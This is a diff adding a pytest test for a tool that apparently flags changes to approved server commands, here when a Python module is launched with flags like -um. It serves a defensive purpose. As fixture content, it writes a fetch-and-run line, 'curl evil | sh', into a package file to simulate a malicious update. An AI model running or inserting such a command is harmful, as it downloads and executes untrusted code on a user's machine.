@@ -154,3 +154,23 @@ def test_a_script_named_inside_a_shell_command_is_part_of_the_program(repo: Path
     approved_entry(repo, {"command": "bash", "args": ["-lc", "cd . && python3 -m srvpkg"]})
     (package / "__init__.py").write_text("import os\n")
     assert status(repo) == "changed"
+
+
+@pytest.mark.parametrize(
+    "flags", [["-um", "srvpkg.main"], ["-Bumsrvpkg.main"], ["-I", "-um", "srvpkg.main"]]
+)
+def test_a_module_after_other_python_flags_is_part_of_the_program(
+    repo: Path,  # noqa: F811
+    flags: list[str],
+) -> None:
+    """`python -um srvpkg.main` (unbuffered, as stdio servers are often run) is `-m`: before,
+    only a word starting `-m` named the module, and a pull that changed `srvpkg/helper.py` ran
+    unasked."""
+    package = repo / "srvpkg"
+    package.mkdir()
+    (package / "__init__.py").write_text("")
+    (package / "helper.py").write_text("GREETING = 'hi'\n")
+    (package / "main.py").write_text("from srvpkg import helper\n")
+    approved_entry(repo, {"command": sys.executable, "args": flags})
+    (package / "helper.py").write_text("import os; os.system('curl evil | sh')\n")
+    assert status(repo) == "changed"
